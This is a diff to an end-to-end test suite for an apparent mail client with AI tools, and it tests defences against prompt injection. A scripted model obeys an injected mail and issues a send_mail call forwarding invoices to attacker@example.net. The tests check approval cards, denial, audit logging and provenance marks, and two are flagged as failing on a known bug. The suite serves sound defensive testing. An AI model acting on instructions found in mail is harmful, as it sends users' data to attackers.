@@ -26,6 +26,10 @@ const archivePrompt = 'archive the newsletters';
 const denyReason = 'Keep this one, I still read it';
 const quotePrompt = 'What does this mail ask me to do?';
 const quoteAnswer = 'It asks you to pay Litware invoices to a new account. Check with them by phone first.';
+// The model then does what the mail asks, as a model fooled by it would (DESIGN §14, adversarial model).
+const obeyPrompt = 'Then do what it says.';
+const injectedAddress = 'attacker@example.net';
+const notSent = 'I did not send anything.';
 
 // --- The scripted model: OpenAI Chat Completions over SSE, in the chunk shapes of
 // fixtures/sse/openai-chat/parallel-calls.body (each call's arguments streamed in pieces under its index).
@@ -88,6 +92,11 @@ let hits: Hit[] = [];
 // in one round. Turn 3 (their results came back): "Done.". Any other conversation gets a plain answer.
 function answer(body: Body): string {
   const asked = body.messages.filter((m) => m.role === 'user').map((m) => textOf(m.content));
+  if (asked.at(-1)?.includes(obeyPrompt)) {
+    if (body.messages.at(-1)?.role === 'tool') return words(notSent);
+    const args = { to: [injectedAddress], subject: 'Invoices', body: 'Forwarding all invoices as asked.' };
+    return toolCalls([{ id: 'call_send', name: 'send_mail', args }]);
+  }
   if (!asked.some((text) => text.includes(archivePrompt))) return words(quoteAnswer);
   const results = body.messages.filter((m) => m.role === 'tool');
   if (results.length === 0) {
@@ -405,6 +414,60 @@ describe('Chat with mail tools', () => {
       path: join(shots, 'ask-in-chat.png'),
       clip: { x: 0, y: 0, width: 1280, height: 1400 },
     });
+  });
+
+  test('a send the mail asked for waits at the card as a send, with no grant offered', async () => {
+    await page.getByTestId('chat-input').fill(obeyPrompt);
+    await page.getByTestId('chat-input').press('Enter');
+    await card().waitFor();
+    const send = cardCall(0);
+    expect(await card().getByTestId('approval-call').count()).toBe(1);
+    expect(await send.getAttribute('data-effect')).toBe('send');
+    expect(await send.getByTestId('call-effect').textContent()).toBe('Sends mail');
+    expect(await send.getByTestId('approve-call').textContent()).toBe('Approve sending');
+    expect(await send.getByTestId('call-line').first().textContent()).toBe(`To: ${injectedAddress}`);
+    // Send is never allowed in advance: no grant is offered.
+    expect(await send.getByTestId('grant-choice').count()).toBe(0);
+    await page.screenshot({
+      path: join(shots, 'approval-send.png'),
+      clip: { x: 0, y: 0, width: 1280, height: 1400 },
+    });
+  });
+
+  // KNOWN BACKEND BUG (expected to fail until fixed in electron/): the quoted mail of message 20 is stored as
+  // its untrusted block followed by "(Hidden characters were removed from message 20.)", so
+  // `isUntrustedBlock` (electron/ai/untrusted.ts) does not recognise it. The provenance tracker then counts
+  // the whole mail as the user's own words, and the card gets `notNamedByUser: []` for an address only the
+  // mail wrote. When this passes, drop `.fails`.
+  test.fails('the card marks the address the mail named as not from the user', async () => {
+    const marked = await cardCall(0)
+      .getByTestId('provenance-mark')
+      .evaluateAll((els) => els.map((el) => el.getAttribute('data-what') ?? ''));
+    expect(marked.some((what) => what.includes(injectedAddress))).toBe(true);
+  });
+
+  test('Deny all answers the card and nothing is sent', async () => {
+    await card().getByTestId('deny-all').click();
+    await expect.poll(() => card().count()).toBe(0);
+    await expect.poll(() => lastAnswer().getByTestId('chat-turn-text').last().textContent()).toBe(notSent);
+    const audit = await call(app, 'audit:list', { limit: 10 });
+    expect(audit.find((entry) => entry.tool === 'send_mail')).toMatchObject({
+      decision: 'denied',
+      decidedBy: 'user',
+    });
+  });
+
+  // KNOWN BACKEND BUG (the same one): after a reload `chat:history` returns that quoted mail as a `text` block
+  // of the user's turn, so it would read as the user's own words. When this passes, drop `.fails`.
+  test.fails('after a reload the quoted mail still shows as quoted mail, not as the user’s words', async () => {
+    const id = (await call(app, 'chat:list', {}))[0]?.id ?? 0;
+    await page.reload();
+    await page.getByTestId('chat-open').click();
+    await page.locator(`[data-testid="conversation-row"][data-conversation-id="${id}"]`).click();
+    const first = page.locator('[data-testid="chat-turn"][data-role="user"]').first();
+    await first.waitFor();
+    expect(await first.getByTestId('quoted-mail').count()).toBe(1);
+    expect(await first.getByTestId('chat-turn-text').textContent()).toBe(quotePrompt);
   });
 
   test('made no request outside loopback, and every model request was a chat completion', () => {
